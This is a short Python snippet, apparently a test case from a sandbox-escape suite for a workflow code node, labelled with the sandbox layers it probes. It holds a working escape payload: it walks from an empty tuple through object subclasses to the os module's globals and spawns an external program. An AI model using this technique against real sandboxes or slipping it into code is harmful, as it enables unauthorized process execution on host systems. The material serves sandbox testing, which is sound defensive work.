# class: object graph walk
# technique: from a literal to a process
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: made
host = _items[0]["json"]
classes = ().__class__.__base__.__subclasses__()
os = [c for c in classes if str(c) == "<class 'os._wrap_close'>"][0].__init__.__globals__
os["waitpid"](os["posix_spawn"](host["program"], [host["program"], host["folder"] + "/" + host["mark"]], {}), 0)
return [{"json": {"reached": "a process"}}]
